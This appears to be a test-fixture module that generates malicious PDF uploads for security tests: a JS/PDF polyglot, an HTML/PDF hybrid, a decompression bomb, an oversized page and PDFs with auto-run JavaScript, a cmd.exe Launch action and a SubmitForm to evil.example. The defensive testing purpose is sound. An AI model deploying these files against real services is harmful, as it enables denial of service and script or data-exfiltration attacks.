"""Files an attacker uploads, built by hand so that every test tries the real thing.

- `polyglot_js_pdf`: `/*` + a valid PDF + `*/` + JavaScript: a script and (to a lenient reader)
  a PDF at once.
- `html_pdf`: an HTML page that loads a script and hides a valid PDF in a comment.
- `tall_page_pdf`: 432 bytes, one page of 20 x 14,400 pt: a cover 400 px wide would be 288,000 px
  tall.
- `deflate_bomb_pdf`: a page whose 204 KB content stream inflates to 100 MB of drawing
  operators.
- `scripted_pdf`: a PDF that runs JavaScript or another action when opened (each kind the
  checks refuse)."""

import io
import zlib

ALERT_JS = "document.title='pwned';window.pwned=true;"


def pdf_bytes(
    *,
    media_box=(612, 792),
    content: bytes = b"",
    extra_catalog: str = "",
    extra_page: str = "",
    extra_objects: tuple[str, ...] = (),
    filters: str = "",
) -> bytes:
    """A one-page PDF with a correct cross-reference table. `content` is the page's content
    stream (already compressed when `filters` names a filter)."""
    width, height = media_box
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {extra_catalog}>>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {width} {height}] "
            f"/Resources << >> /Contents 4 0 R {extra_page}>>"
        ).encode(),
        f"<< /Length {len(content)} {filters}>>\nstream\n".encode() + content + b"\nendstream",
        *(body.encode() for body in extra_objects),
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return out.getvalue()


def polyglot_js_pdf(js: str = ALERT_JS) -> bytes:
    return b"/*" + pdf_bytes(content=b"q Q") + b"*/\n" + js.encode()


def html_pdf(script_src: str) -> bytes:
    return (
        f'<!doctype html><title>report</title><script src="{script_src}"></script><!--\n'.encode()
        + pdf_bytes(content=b"q Q")
        + b"-->"
    )


def tall_page_pdf() -> bytes:
    return pdf_bytes(media_box=(20, 14400), content=b"q Q")


def deflate_bomb_pdf(inflated_mb: int = 100) -> bytes:
    chunk = b"0 0 m 1 1 l S\n" * 4096
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(chunk) for _ in range(inflated_mb * 2**20 // len(chunk)))
    return pdf_bytes(content=body + compressor.flush(), filters="/Filter /FlateDecode ")


SCRIPTED = {
    "open_action_javascript": {
        "extra_catalog": "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> ",
    },
    "names_javascript": {
        "extra_catalog": "/Names << /JavaScript << /Names [(a) 5 0 R] >> >> ",
        "extra_objects": ("<< /S /JavaScript /JS (app.alert\\(1\\)) >>",),
    },
    "page_additional_action": {
        "extra_page": "/AA << /O << /S /JavaScript /JS 5 0 R >> >> ",
        "extra_objects": ("<< /Length 12 >>\nstream\napp.alert(1)\nendstream",),
    },
    "launch_annotation": {
        "extra_page": "/Annots [5 0 R] ",
        "extra_objects": (
            "<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] "
            "/A << /S /Launch /F (cmd.exe) >> >>",
        ),
    },
    "open_action_submit_form": {
        "extra_catalog": "/OpenAction << /S /SubmitForm /F (https://evil.example/) >> ",
    },
    "xfa_form": {
        "extra_catalog": "/AcroForm << /Fields [] /XFA 5 0 R >> ",
        "extra_objects": ("<< /Length 4 >>\nstream\n<x/>\nendstream",),
    },
}


def scripted_pdf(kind: str) -> bytes:
    return pdf_bytes(content=b"q Q", **SCRIPTED[kind])
